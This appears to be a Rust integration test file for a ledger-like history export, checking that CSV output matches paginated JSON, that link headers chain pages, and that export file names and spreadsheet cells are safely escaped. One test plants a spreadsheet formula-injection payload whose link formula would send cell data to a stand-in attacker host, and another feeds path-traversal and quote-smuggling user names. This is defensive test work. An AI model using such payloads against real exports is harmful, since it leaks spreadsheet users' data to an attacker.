//! The history as CSV is the history as JSON, field by field.

use serde_json::json;
use tokio::task::JoinSet;

use super::{COLUMNS, CSV, Row, expected, get, rows_of, table, without_recorded_at};
use crate::model::{Random, rfc3339};
use crate::support::client::change;
use crate::support::world::{NOON, World};

/// 2026-01-31T12:00:00Z
const BASE: i64 = 1_769_860_800_000_000;
/// More than two pages of the store.
const OPERATIONS: usize = 2_600;

/// What has a meaning in CSV, in a spreadsheet or in Unicode.
const PIECES: [&str; 20] = [
    "\"", ",", "\r\n", "\n", "\r", ";", "\t", "=", "+", "-", "@", "'", "rent", " ", "😀", "é", "\u{2028}", "＝", "\\",
    "<b>",
];

fn context(random: &mut Random) -> String {
    let pieces = random.between(0, 6);
    (0..pieces)
        .map(|_| PIECES[usize::try_from(random.between(0, 19)).unwrap()])
        .collect()
}

/// Operations out of order, several of them at one moment, that are all accepted.
async fn fill(world: &World, user_id: &str) {
    let mut random = Random(6);
    let opening = change(user_id, 1_000_000_000, &rfc3339(BASE - 1_000_000_000));
    world.client.change(&opening).await.expect(200);
    let mut clients = JoinSet::new();
    for _ in 0..OPERATIONS / 50 {
        let bodies: Vec<_> = (0..50)
            .map(|_| {
                let moment = rfc3339(BASE + random.between(-400, 400) * 1_000_001);
                let mut body = change(user_id, random.between(-100_000, 100_000), &moment);
                body["context"] = json!(context(&mut random));
                body
            })
            .collect();
        let client = world.client.clone();
        clients.spawn(async move {
            for body in bodies {
                client.change(&body).await.expect(200);
            }
        });
    }
    clients.join_all().await;
}

/// All pages in JSON, one after the other.
async fn pages(world: &World, user_id: &str, query: &str) -> Vec<Row> {
    let mut rows = Vec::new();
    let mut page = world.client.history(user_id, query).await.expect(200).body;
    loop {
        rows.extend(rows_of(&page));
        let Some(cursor) = page["nextCursor"].as_str() else {
            return rows;
        };
        page = world
            .client
            .history(user_id, &format!("limit=1000&cursor={cursor}"))
            .await
            .expect(200)
            .body;
    }
}

#[tokio::test]
async fn the_table_has_every_operation_as_the_pages_and_the_model_have_it() {
    let world = World::start().await;
    let sql = world.database.client().await;
    fill(&world, "a").await;
    let model = expected(&sql, "a").await;
    assert_eq!(model.len(), OPERATIONS + 1);

    for order in ["asc", "desc"] {
        let rows = table(&world.client, &format!("/a/history?order={order}")).await;
        let mut in_order = without_recorded_at(&rows);
        if order == "desc" {
            in_order.reverse();
        }
        assert!(in_order == model, "{order}: not what the model has");
        assert!(
            rows == pages(&world, "a", &format!("order={order}&limit=1000")).await,
            "{order}"
        );
    }
    let (from, to) = (rfc3339(BASE - 300_000_300), rfc3339(BASE + 300_000_299));
    for order in ["asc", "desc"] {
        let query = format!("from={from}&to={to}&order={order}");
        let rows = table(&world.client, &format!("/a/history?{query}")).await;
        assert!(rows.len() > 1_000 && rows.len() < OPERATIONS, "{}", rows.len());
        assert!(
            rows == pages(&world, "a", &format!("{query}&limit=1000")).await,
            "{query}"
        );
    }
    world.replica.stop().await;
}

#[tokio::test]
async fn a_limit_and_a_cursor_count_as_for_json_and_a_part_leads_to_the_next() {
    let world = World::start().await;
    for second in 0..7 {
        let moment = format!("2026-01-31T12:00:0{second}Z");
        world.client.change(&change("a", 1, &moment)).await.expect(200);
    }
    let all = table(&world.client, "/a/history").await;
    let first = world.client.history("a", "limit=2").await.expect(200).body;
    let cursor = first["nextCursor"].as_str().unwrap();
    let beyond = table(&world.client, &format!("/a/history?cursor={cursor}")).await;
    assert_eq!(beyond, all[2..]);
    let part = table(&world.client, &format!("/a/history?cursor={cursor}&limit=3")).await;
    assert_eq!(part, all[2..5]);

    // Links lead from part to part.
    let (mut query, mut seen) = ("?limit=3&from=2026-01-31T12:00:01Z".to_owned(), Vec::new());
    loop {
        let response = get(&world.client, &format!("/a/history{query}"), CSV).await;
        let next = response
            .headers()
            .get("link")
            .map(|link| link.to_str().unwrap().to_owned());
        seen.push(super::parsed(&response.bytes().await.unwrap()));
        let Some(next) = next else {
            break;
        };
        let next = next
            .strip_prefix('<')
            .and_then(|next| next.strip_suffix(">; rel=\"next\""));
        query = next.expect("a link to the next part").to_owned();
    }
    assert_eq!(seen.iter().map(Vec::len).collect::<Vec<_>>(), [3, 3]);
    assert_eq!(seen.concat(), all[..6]);
    assert_eq!(table(&world.client, "/nobody/history").await, Vec::<Row>::new());
    world.replica.stop().await;
}

#[tokio::test]
async fn a_table_is_a_file_with_a_header_line_and_a_safe_name_whoever_it_is_of() {
    let world = World::start().await;
    for (path, name) in [
        ("alice", "filename=\"statement-alice.csv\""),
        ("a%2F..%2Fb", "filename=\"statement-a_.._b.csv\""),
        (
            "x%22%3B%20%F0%9F%98%80",
            "filename=\"statement-x__ _.csv\"; filename*=UTF-8''statement-x_%3B%20%F0%9F%98%80.csv",
        ),
    ] {
        let response = get(&world.client, &format!("/{path}/history"), CSV).await;
        let headers = response.headers();
        assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
        assert_eq!(headers["content-disposition"], format!("attachment; {name}"));
        assert_eq!(headers["x-content-type-options"], "nosniff");
        assert_eq!(headers["cache-control"], "no-store");
        assert_eq!(response.text().await.unwrap(), format!("{}\r\n", COLUMNS.join(",")));
    }
    world.replica.stop().await;
}

#[tokio::test]
async fn a_text_that_a_spreadsheet_would_run_is_marked_and_numbers_are_not() {
    let world = World::start().await;
    let mut body = change("a", 200, NOON);
    body["context"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")");
    world.client.change(&body).await.expect(200);
    world.client.change(&change("a", -150, NOON)).await.expect(200);
    let text = get(&world.client, "/a/history?order=asc", CSV)
        .await
        .text()
        .await
        .unwrap();
    assert!(
        text.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\","),
        "{text}"
    );
    assert!(text.contains(",2,-150,50,test,false,"), "{text}");
    world.replica.stop().await;
}
